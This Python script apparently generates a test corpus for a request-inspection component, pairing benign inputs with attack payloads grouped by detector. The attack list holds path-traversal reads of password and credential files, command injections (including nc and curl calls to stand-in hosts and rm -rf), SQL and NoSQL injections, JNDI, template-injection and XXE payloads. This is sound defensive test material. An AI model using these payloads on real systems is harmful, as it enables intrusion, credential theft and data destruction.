"""Writes the inspection corpora (benign/*.jsonl, attacks/*.jsonl) beside this script.

Run `python3 tests/runtime/corpus/generate.py` after editing the lists below; the
generated files are committed and read by tests/runtime/test_inspect_corpus.py.

Every line is one case: {"id", "kind", "payload"} plus "detector" for attacks.
kind says where the payload travels: "body" (JSON body of an HTTP API request),
"query" (query parameters, URL-encoded on the wire), "path_params", "form" (an
urlencoded form body), "sqs" (message body, JSON-encoded when not a string),
"s3_key" (object key) or "kinesis" (record data). An attack payload of the form
{"$generate": ...} is expanded by the test (oversized or deeply nested documents
are too big to commit).
"""

from __future__ import annotations

import json
from pathlib import Path

HERE = Path(__file__).resolve().parent

NAMES = [
    "Seán O'Brien", "D'Angelo Russell", "José García-López", "Zoë Saldaña", "李小龙",
    "Мария Иванова", "محمد علي", "Ngozi Okonjo-Iweala", "Siobhán Ní Bhriain",
    "Jean-Luc Picard", "Anne-Marie O'Neil", "Dr. Ada Lovelace, PhD", "Bjørn Ødegård",
    "Nguyễn Văn An", "Kwame Nkrumah Jr.", "Ólafur Arnalds", "Renée O’Connor", "佐藤 花子",
    "Παναγιώτης Παπαδόπουλος", "김민준", "Jane \"JJ\" Johnson", "Mary-Kate & Ashley",
]
TEXTS = [
    "Select the best option for your team and we'll handle the rest.",
    "Please select all that apply.",
    "Drop me a line when you're ready; no rush.",
    "Drop table tennis practice on Friday, the hall is closed.",
    "Insert into the slot gently, then press the green button.",
    "Delete from my cart the blue shoes, please.",
    "I want to update my profile and set a new picture.",
    "Meet me at Union Station, 5pm sharp.",
    "The union select committee meets on Tuesdays.",
    "It costs $5, or $10 with express shipping.",
    "Price: $1,299.99 (was $1,499) — 13% off!",
    "50% off today only, use code SPRING-50.",
    "See https://example.com/docs/getting-started?page=2&sort=asc#install for details.",
    "## Release notes\n- Fixed **login** bug\n- Added _dark mode_\n\n> Thanks everyone!",
    "```python\nfor i in range(10):\n    print(i)\n```",
    "Use `SELECT name FROM users WHERE id = ?` with a bound parameter, never string concat.",
    "Running `ls -la | grep log` shows nothing, is logging on?",
    "In JS, `Object.hasOwn(obj, 'x')` is safer than `obj.hasOwnProperty('x')`.",
    "The template uses {{first_name}} and {{order_number}} placeholders.",
    "Hello ${name}, your balance is ${balance}.",
    "Wait... what?! That can't be right...",
    "Email me at jane.doe+orders@example.co.uk or call +1 (555) 010-9999.",
    "Great job team 🎉🔥👍 see you at the offsite 🏖️",
    "C'est l'été ! Ça va très bien, merci.",
    "日本語のテキストです。よろしくお願いします。",
    "Привет, как дела? Всё хорошо.",
    "مرحبا بالعالم، كيف حالك؟",
    "नमस्ते, आप कैसे हैं?",
    "Größe: 42 — passt gut, Farbe ändert sich nicht.",
    "It's 5 o'clock somewhere, isn't it?",
    "Rock 'n' roll and blues all night.",
    "Tom & Jerry is my kids' favourite show.",
    "If a < b and c > d then swap them.",
    "He said \"yes\" or \"no\" = maybe, classic.",
    "The ratio was 3/4, later 1/2, finally 2:1.",
    "Apt #5, 3rd floor — ring twice.",
    "Order 1 or 2 tickets; 3 is the limit.",
    "cd ../project && make test fails on my laptop",
    "Copy the file to C: drive and restart.",
    "Path on the server is /var/www/html/index.html, is that right?",
    "My config lives in ~/.config/app/settings.json",
    "<p>Hello <b>world</b></p>",
    "<!DOCTYPE html><html><body>Hi</body></html>",
    "<note><to>Tove</to><from>Jani</from></note>",
    "if (a == b && c != d) { return; }",
    "SELECT * FROM orders WHERE status = 'open';",
    "WHERE name = 'O''Brien' is how you escape a quote in SQL.",
    "Use '--' to separate options from arguments.",
    "My password hint is 'the usual' -- you know it.",
    "Set PATH=$PATH:/usr/local/bin before running.",
    "Array.prototype.map is handy; prototypes are how JS does inheritance.",
    "Call me maybe? 1-800-FLOWERS",
    "The answer is 42; the question is unknown.",
    "Ticket #4521: login page shows 500 error after update.",
    "Loved it!!! 5/5 ⭐⭐⭐⭐⭐",
    "Mix 2 cups flour + 1 cup sugar, bake at 180°C for 25'.",
    "Use a semicolon; it joins two independent clauses.",
    "The file name was \"Q&A (final).pdf\".",
    "Ctrl+C / Ctrl+V to copy & paste.",
    "We're hiring: Senior Engineer (m/f/d) — apply at careers@example.com",
    "R&D spend grew 12% YoY.",
    "a=1&b=2 is a query string",
    "x = y + 1 or z = 2",
    "Use {% raw %} blocks sparingly in your docs.",
    "<%= title %> renders the page title in ERB.",
    "SELECT id FROM orders WHERE status = 'open' ORDER BY 2",
    "Use *{field} for selection variables and @{/orders} for links in Thymeleaf.",
    "The subquery (select max(id) from t) is slow, any idea?",
    "Is it 'yes' or (select one) 'no'?",
]
PRODUCTS = [
    ("TSHIRT-RED-XL", "T-shirt, red, XL", "19.99"), ("MUG-001", "Coffee mug 'I ❤ NY'", "8.50"),
    ("BOOK-9780262033848", "Introduction to Algorithms, 3rd ed.", "89.00"),
    ("SOCK-PAIR-3", "Socks (3 pairs) 100% cotton", "12.00"),
    ("CHAIR-ERG-2", "Ergonomic chair — mesh back", "349.00"),
    ("CABLE-USB-C-2M", "USB-C cable 2m / 100W", "14.95"),
    ("TEA-MATCHA", "Matcha tea 抹茶 100g", "24.00"),
    ("LAMP-DESK-LED", "Desk lamp (LED, dimmable)", "39.90"),
]
FILES = [
    "report-2024 Q3 (final).pdf", "photo_001.JPG", "Résumé – Jane.docx", "my file (1).txt",
    "archive.tar.gz", "notes/2024/summary.md", "invoices/2024-03/INV-0042.pdf",
    "Q&A (final).pdf", "données_clients.csv", "スクリーンショット 2024-01-05.png",
    "backup.2024-01-01.sql.gz", "user uploads/avatar+1.png", "team's plan v2.xlsx",
    "music/AC_DC - Back in Black.mp3", "a.b.c.d.txt", "README", ".gitignore",
    "images/2023/12/31/new-year's-eve.jpeg", "50% discount flyer.pdf", "data [copy].json",
]
CITIES = ["Dublin", "São Paulo", "Zürich", "Kraków", "Reykjavík", "東京", "Москва", "القاهرة",
          "New York, NY", "St. John's"]
SEARCHES = [
    "select the best option", "union jack flag", "drop shipping", "o'reilly books",
    "c++ tutorial", "c# vs java", "50% off", "$100 gift card", "rock & roll", "what is 2+2",
    "how to exit vim :q!", "café near me", "東京 ラーメン", "<3 emoji", "size 10 1/2",
    "\"exact phrase\"", "-exclude this", "title:report date:2024", "a OR b", "1=1 math proof",
    "where to buy", "insert coin", "update firmware", "node.js prototype inheritance",
    "template {{ }} syntax", "path/to/file", "..and more", "email@example.com",
]


def benign() -> dict[str, list[dict[str, object]]]:
    """Benign cases grouped by file name."""
    bodies: list[dict[str, object]] = []
    for i, name in enumerate(NAMES):
        for j in range(3):
            text = TEXTS[(i * 3 + j) % len(TEXTS)]
            bodies.append({"kind": "body", "payload": {
                "customer": {"name": name, "city": CITIES[(i + j) % len(CITIES)],
                             "email": f"user{i}{j}@example.org"},
                "comment": text, "rating": (i + j) % 5 + 1}})
    for i, text in enumerate(TEXTS):
        bodies.append({"kind": "body", "payload": {"title": f"Feedback #{i}", "message": text,
                                                   "tags": ["feedback", "web"]}})
        bodies.append({"kind": "body", "payload": {"ticket": {"subject": text[:40],
                                                              "body": text, "priority": "low"}}})
    for i, (sku, label, price) in enumerate(PRODUCTS):
        for qty in (1, 2, 5):
            bodies.append({"kind": "body", "payload": {
                "order_id": f"ORD-2024-{i:04d}{qty}", "customerId": f"cus_{i}A{qty}",
                "items": [{"sku": sku, "name": label, "qty": qty, "price": f"${price}"}],
                "total": {"amount": float(price) * qty, "currency": "USD",
                          "display": f"${float(price) * qty:,.2f}"},
                "note": TEXTS[(i + qty) % len(TEXTS)]}})
    for i, fname in enumerate(FILES):
        bodies.append({"kind": "body", "payload": {"file_name": fname, "size": 1024 * (i + 1),
                                                   "contentType": "application/octet-stream"}})
    for i in range(12):
        bodies.append({"kind": "body", "payload": {
            "host": f"api{i}.example.com", "ip": f"203.0.113.{i + 1}", "port": str(8000 + i),
            "region": "eu-west-1", "slug": f"my-first-post-{i}", "userId": f"u_{i:03d}abc"}})
    bodies += [
        {"kind": "body", "payload": {"price": {"$numberDecimal": "12.50"}, "note": "mongo export"}},
        {"kind": "body", "payload": {"schema": {"$ref": "#/definitions/Order", "type": "object"}}},
        {"kind": "body", "payload": {"amounts": ["$1", "$20.00", "€5", "£3.50", "¥500"]}},
        {"kind": "body", "payload": {"markdown": "| a | b |\n|---|---|\n| 1 | 2 |"}},
        {"kind": "body", "payload": {"avatar": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg=="}},
        {"kind": "body", "payload": {"callback": "https://hooks.example.com/cb?x=1&y=2"}},
        {"kind": "body", "payload": {"constructor": "Brunel Ltd", "prototype": "v2 mock-up"}},
        {"kind": "body", "payload": {"query": "status = 'open' AND owner = 'me'"}},
        {"kind": "body", "payload": {"snippet": "const total = items.reduce((a, b) => a + b, 0);"}},
        {"kind": "body", "payload": {"snippet": "Hello {{ user.name }}, you have {{ count }} new"}},
        {"kind": "body", "payload": {"snippet": "#!/bin/bash\necho \"$HOME\" > out.txt"}},
        {"kind": "body", "payload": {"when": "2024-03-01T12:00:00Z", "tz": "+05:30"}},
        {"kind": "body", "payload": {"nested": {"a": {"b": {"c": {"d": ["deep", "but fine"]}}}}}},
        {"kind": "body", "payload": [{"id": i, "label": f"item {i}"} for i in range(50)]},
        {"kind": "body", "payload": {"note": "...", "accessKeyId": "...", "reply": ".."[:1]}},
        {"kind": "body", "payload": {"messageId": "<CAF=abc123@mail.example.com>",
                                     "inReplyTo": "<0123456789example.com>"}},
        {"kind": "body", "payload": {"$type": "Shop.Models.Order, Shop", "Id": 42,
                                     "note": {"$text": "fragile", "@lang": "en"}}},
        {"kind": "body", "payload": {"requestId": "c6af9ac6-7b61-11e6-9a41-93e8deadbeef",
                                     "traceId": "Root=1-5759e988-bd862e3fe1be46a994272793"}},
    ]
    queries: list[dict[str, object]] = []
    for i, q in enumerate(SEARCHES):
        queries.append({"kind": "query", "payload": {"q": q, "page": str(i % 5 + 1)}})
        queries.append({"kind": "query", "payload": {"search": q, "sort": "-created_at",
                                                     "filter[status]": "open"}})
    for name in NAMES:
        queries.append({"kind": "query", "payload": {"name": name, "lang": "en-GB"}})
    for fname in FILES:
        queries.append({"kind": "query", "payload": {"file": fname, "download": "1"}})
    paths = [{"kind": "path_params", "payload": {"id": v}} for v in (
        "123", "ORD-2024-0042", "u_abc123", "550e8400-e29b-41d4-a716-446655440000",
        "my-first-post", "2024", "TSHIRT-RED-XL", "a1b2c3", "user@example.com", "x_y.z")]
    forms = [{"kind": "form", "payload": {"name": n, "message": t}}
             for n, t in zip(NAMES, TEXTS[5:], strict=False)]
    records: list[dict[str, object]] = []
    for i, text in enumerate(TEXTS):
        records.append({"kind": "sqs", "payload": {"event": "comment.created", "id": i,
                                                   "text": text}})
        if i % 2 == 0:
            records.append({"kind": "sqs", "payload": text})
        if i % 3 == 0:
            records.append({"kind": "kinesis", "payload": {"seq": i, "message": text}})
    for fname in FILES:
        records.append({"kind": "s3_key", "payload": f"uploads/2024/{fname}"})
    return {"http_bodies": bodies, "queries": queries, "path_params": paths, "forms": forms,
            "records": records}


ATTACKS: dict[str, list[tuple[str, object]]] = {
    "path_traversal": [
        ("body", {"file_name": "../../../etc/passwd"}),
        ("body", {"file_name": "..\\..\\..\\windows\\win.ini"}),
        ("body", {"file_name": "%2e%2e%2f%2e%2e%2fetc%2fpasswd"}),
        ("body", {"file_name": "%252e%252e%252fetc%252fpasswd"}),
        ("body", {"file_name": "..%c0%af..%c0%afetc/passwd"}),
        ("body", {"file_name": "..%c1%9c..%c1%9cboot.ini"}),
        ("body", {"file_name": "....//....//etc/passwd"}),
        ("body", {"path": "..;/..;/admin/config"}),
        ("body", {"template": "/etc/passwd"}),
        ("body", {"include": "/proc/self/environ"}),
        ("body", {"url": "file:///etc/passwd"}),
        ("body", {"page": "php://filter/convert.base64-encode/resource=index.php"}),
        ("body", {"upload": "phar://uploads/evil.jpg"}),
        ("body", {"doc": "C:\\Windows\\System32\\drivers\\etc\\hosts"}),
        ("body", {"file_name": "report.pdf\u0000.jpg"}),
        ("body", {"file_name": "avatar.png%00.php"}),
        ("body", {"image": "images/../../../../var/log/auth.log"}),
        ("body", {"config": "..%5c..%5cweb.config"}),
        ("body", {"file_name": "%u002e%u002e%u2215etc%u2215passwd"}),
        ("body", {"file_name": "．．／．．／etc/passwd"}),
        ("body", {"key": "/home/alice/.ssh/id_rsa"}),
        ("body", {"creds": "~/.aws/credentials"}),
        ("body", {"cmd": "expect://id"}),
        ("body", {"archive": "zip://shell.jpg#payload.php"}),
        ("body", {"log": "/var/log/nginx/access.log"}),
        ("query", {"file": "../../../../etc/shadow"}),
        ("query", {"file": "..%2F..%2F..%2Fetc%2Fshadow"}),
        ("query", {"download": "uploads/..\\..\\secret.txt"}),
        ("s3_key", "uploads/../../etc/passwd"),
        ("s3_key", "..%2f..%2fadmin/keys.json"),
        ("sqs", {"attachment": "../../../../root/.bash_history"}),
        ("kinesis", {"path": "/etc/shadow"}),
    ],
    "command_injection": [
        ("body", {"order_id": "123; cat /tmp/x"}),
        ("body", {"order_id": "42 && whoami"}),
        ("body", {"host": "example.com | nc attacker.example 4444"}),
        ("body", {"host": "`id`"}),
        ("body", {"host": "$(curl http://x.example/s.sh)"}),
        ("body", {"userId": "42;reboot"}),
        ("body", {"ip": "10.0.0.1; ping -c 3 10.0.0.2"}),
        ("body", {"id": "1%0aid"}),
        ("body", {"id": "abc\nuname -a"}),
        ("body", {"domain": "x${IFS}cat${IFS}flag"}),
        ("body", {"hostname": "a$IFS-la"}),
        ("body", {"ip": "8.8.8.8 & dir"}),
        ("body", {"slug": "post>/tmp/out"}),
        ("body", {"sku": "x</tmp/in"}),
        ("body", {"target_host": "a||b"}),
        ("body", {"device_id": "dev1 `sleep 5`"}),
        ("query", {"host": "127.0.0.1;ls"}),
        ("query", {"ip": "1.1.1.1 && curl x.example"}),
        ("query", {"user_id": "7|id"}),
        ("path_params", {"id": "5;shutdown -h now"}),
        ("path_params", {"name": "a$(reboot)"}),
        ("sqs", {"job_id": "j1; rm -rf /tmp/work"}),
    ],
    "sql_injection": [
        ("body", {"username": "' OR '1'='1"}),
        ("body", {"username": "admin'--"}),
        ("body", {"username": "admin' #"}),
        ("body", {"password": "' or 1=1 -- -"}),
        ("body", {"name": "\" OR \"\"=\""}),
        ("body", {"name": "') or ('a'='a"}),
        ("body", {"q": "1 UNION SELECT null,null,null--"}),
        ("body", {"q": "x' UNION ALL SELECT username, password FROM users--"}),
        ("body", {"q": "1 union/**/select/**/1,2,3"}),
        ("body", {"q": "' union select @@version --"}),
        ("body", {"name": "x'; DROP TABLE users;--"}),
        ("body", {"name": "1; DELETE FROM orders"}),
        ("body", {"name": "'; exec xp_cmdshell 'dir'--"}),
        ("body", {"name": "1; waitfor delay '0:0:5'--"}),
        ("body", {"name": "1' AND SLEEP(5)#"}),
        ("body", {"name": "1) or pg_sleep(10)--"}),
        ("body", {"name": "' and extractvalue(1,concat(0x7e,version()))--"}),
        ("body", {"name": "1 and updatexml(1,concat(0x7e,user()),1)"}),
        ("body", {"name": "' union select load_file('/etc/hosts')--"}),
        ("body", {"name": "x' into outfile '/tmp/x'--"}),
        ("body", {"name": "'or''='"}),
        ("body", {"name": "1 OR 1=1"}),
        ("body", {"name": "' || 'a'='a"}),
        ("body", {"sort": "1' ORDER BY 3--"}),
        ("body", {"name": "x' AND (SELECT COUNT(*) FROM users) > 0 --"}),
        ("query", {"id": "1 or (select 1 from dual)"}),
        ("query", {"id": "1' or '1'='1"}),
        ("query", {"q": "%27%20OR%20%271%27%3D%271"}),
        ("query", {"sort": "name; drop table accounts"}),
        ("form", {"user": "admin'--", "pass": "x"}),
        ("sqs", {"comment": "'; insert into admins values('eve')--"}),
        ("kinesis", {"q": "1 UNION SELECT password FROM users"}),
        ("s3_key", "reports/x' or '1'='1.csv"),
    ],
    "nosql_injection": [
        ("body", {"username": {"$ne": None}, "password": {"$ne": None}}),
        ("body", {"username": "admin", "password": {"$gt": ""}}),
        ("body", {"$where": "sleep(5000)"}),
        ("body", {"user": {"$regex": ".*"}}),
        ("body", {"$or": [{"a": 1}, {"b": 2}]}),
        ("body", {"age": {"$gte": 0}}),
        ("body", {"filter": {"$expr": {"$eq": [1, 1]}}}),
        ("body", {"name": {"$exists": True}}),
        ("body", {"q": {"$function": {"body": "function(){return true}", "args": []}}}),
        ("body", {"role": {"$in": ["admin", "root"]}}),
        ("body", {"id": {"$nin": [""]}}),
        ("body", {"deep": {"x": [{"y": {"$ne": 1}}]}}),
        ("body", {"email": {"$regex": "^a", "$options": "i"}}),
        ("query", {"username[$ne]": "x", "password[$ne]": "x"}),
        ("query", {"password[$regex]": ".*"}),
        ("query", {"id[$in][]": "1"}),
        ("query", {"age[$gt]": "0"}),
        ("form", {"user[$ne]": "nobody", "pass[$ne]": "x"}),
        ("sqs", {"lookup": {"$where": "this.a == this.b"}}),
        ("kinesis", {"match": {"$nor": [{}]}}),
    ],
    "template_injection": [
        ("body", {"name": "{{7*7}}"}),
        ("body", {"name": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
        ("body", {"name": "{{config.items()}}"}),
        ("body", {"name": "{{request.application.__globals__}}"}),
        ("body", {"name": "{% import os %}{{ os.popen('id').read() }}"}),
        ("body", {"name": "{{ self._TemplateReference__context }}"}),
        ("body", {"name": "{{ lipsum.__globals__['os'] }}"}),
        ("body", {"name": "{{constructor.constructor('return process')()}}"}),
        ("body", {"name": "${7*7}"}),
        ("body", {"name": "${jndi:ldap://attacker.example/a}"}),
        ("body", {"name": "${${lower:j}ndi:ldap://x.example/a}"}),
        ("body", {"name": "${${::-j}${::-n}di:rmi://x.example/b}"}),
        ("body", {"name": "${env:AWS_SECRET_ACCESS_KEY}"}),
        ("body", {"name": "#{7*7}"}),
        ("body", {"name": "#{T(java.lang.Runtime).getRuntime().exec('id')}"}),
        ("body", {"name": "<%= 7*7 %>"}),
        ("body", {"name": "<%= `id` %>"}),
        ("body", {"name": "<%= system('cat /tmp/x') %>"}),
        ("body", {"name": "<%= File.open('x').read %>"}),
        ("body", {"name": "{{ cycler.__init__.__globals__.os }}"}),
        ("body", {"name": "{{ ()|attr('__class__') }}"}),
        ("body", {"name": "*{7*7}"}),
        ("body", {"name": "*{T(java.lang.Runtime).getRuntime().exec('id')}"}),
        ("body", {"name": "<#assign ex=\"freemarker.template.utility.Execute\"?new()>"
                          "${ex(\"id\")}"}),
        ("body", {"name": "#set($x = $class.inspect(\"java.lang.Runtime\"))"}),
        ("query", {"greeting": "{{7*'7'}}"}),
        ("query", {"ua": "${jndi:dns://x.example/c}"}),
        ("sqs", {"subject": "${sys:java.version}"}),
        ("kinesis", {"msg": "{{ joiner.__init__.__globals__ }}"}),
    ],
    "xxe": [
        ("body", {"xml": "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM "
                         "\"http://x.example/\">]><r>&x;</r>"}),
        ("body", {"xml": "<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "
                         "\"expect://id\">]><foo>&xxe;</foo>"}),
        ("body", {"xml": "<!ENTITY % dtd SYSTEM \"http://x.example/evil.dtd\">%dtd;"}),
        ("body", {"xml": "<!DOCTYPE data SYSTEM \"http://x.example/d.dtd\"><data/>"}),
        ("body", {"xml": "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 "
                         "\"&lol;&lol;\">]><lolz>&lol2;</lolz>"}),
        ("body", {"xml": "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include "
                         "parse=\"text\" href=\"http://x.example/\"/></foo>"}),
        ("body", {"svg": "<!DOCTYPE svg [<!ENTITY e SYSTEM \"http://x.example\">]>"
                         "<svg>&e;</svg>"}),
        ("body", {"doc": "<!doctype r [ <!entity a system \"http://x.example/\"> ]>"}),
        ("query", {"xml": "<!DOCTYPE a [<!ENTITY b SYSTEM \"http://x.example\">]><a>&b;</a>"}),
        ("sqs", "<?xml version=\"1.0\"?><!DOCTYPE m [<!ENTITY e SYSTEM \"http://x.example/\">]>"
                "<m>&e;</m>"),
        ("sqs", {"payload": "<!ENTITY p PUBLIC \"-//x//y\" \"http://x.example/p.dtd\">"}),
        ("kinesis", {"xml": "<!DOCTYPE k SYSTEM \"http://x.example/k.dtd\">"}),
        ("form", {"data": "<!DOCTYPE x [<!ENTITY y SYSTEM \"http://x.example/\">]><x>&y;</x>"}),
    ],
    "prototype_pollution": [
        ("body", {"__proto__": {"admin": True}}),
        ("body", {"constructor": {"prototype": {"isAdmin": True}}}),
        ("body", {"user": {"__proto__": {"role": "admin"}}}),
        ("body", {"settings": [{"__proto__": {"polluted": 1}}]}),
        ("body", {"path": "__proto__.polluted", "value": "yes"}),
        ("body", {"path": "constructor.prototype.isAdmin", "value": True}),
        ("body", {"path": "a[__proto__][b]", "value": 1}),
        ("body", {"__proto__.isAdmin": True}),
        ("body", {"constructor.prototype.role": "admin"}),
        ("query", {"__proto__[admin]": "1"}),
        ("query", {"constructor[prototype][admin]": "1"}),
        ("query", {"a[__proto__][b]": "c"}),
        ("form", {"__proto__[isAdmin]": "true"}),
        ("sqs", {"merge": {"__proto__": {"x": 1}}}),
        ("kinesis", {"opts": {"constructor": {"prototype": {"y": 2}}}}),
    ],
    "oversize": [
        ("body", {"$generate": "big_string", "bytes": 1_200_000}),
        ("body", {"$generate": "big_list", "bytes": 2_000_000}),
        ("sqs", {"$generate": "big_string", "bytes": 1_100_000}),
    ],
    "structure": [
        ("body", {"$generate": "nested", "depth": 40}),
        ("body", {"$generate": "nested_list", "depth": 100}),
        ("body", {"$generate": "wide", "keys": 20_000}),
        ("sqs", {"$generate": "nested", "depth": 64}),
    ],
}


def attacks() -> dict[str, list[dict[str, object]]]:
    """Attack cases grouped by detector."""
    return {detector: [{"detector": detector, "kind": kind, "payload": payload}
                       for kind, payload in cases]
            for detector, cases in ATTACKS.items()}


def write(folder: Path, groups: dict[str, list[dict[str, object]]], prefix: str) -> int:
    count = 0
    for name, cases in groups.items():
        lines = []
        for index, case in enumerate(cases):
            lines.append(json.dumps({"id": f"{prefix}-{name}-{index:03d}", **case},
                                    ensure_ascii=False))
        (folder / f"{name}.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
        count += len(cases)
    return count


if __name__ == "__main__":
    b = write(HERE / "benign", benign(), "benign")
    a = write(HERE / "attacks", attacks(), "attack")
    print(f"{b} benign cases, {a} attack cases")
